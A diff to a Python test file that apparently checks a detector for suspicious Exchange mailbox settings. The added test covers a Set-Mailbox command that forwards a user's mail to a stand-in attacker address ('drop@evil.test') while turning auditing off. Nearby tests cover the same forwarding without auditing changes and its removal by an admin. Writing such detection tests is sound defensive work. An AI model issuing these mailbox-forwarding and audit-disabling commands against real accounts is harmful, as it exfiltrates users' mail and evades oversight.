@@ -93,6 +93,8 @@ def rules_and_settings():
     ada = {'Identity': 'ada@us.example'}
     forward = command('Set-Mailbox', ForwardingSmtpAddress='smtp:drop@evil.test', **ada)
     is_('a setting of the mailbox forwards what comes', forward, here)
+    is_('it may turn auditing off with that', command('Set-Mailbox', ForwardingSmtpAddress='smtp:drop@evil.test', AuditEnabled='False', **ada),
+        {**here, ADAS: 'unknown audit_changed'})
     is_('it was emptied', [forward, by_admin('Set-Mailbox', ForwardingSmtpAddress='', **ada)], gone)
     is_('it was emptied with the other', [forward, by_admin('Set-Mailbox', ForwardingSmtpAddress=None, ForwardingAddress=None, **ada)], gone)
     is_('the other was emptied', [forward, by_admin('Set-Mailbox', ForwardingAddress='', **ada)], here)
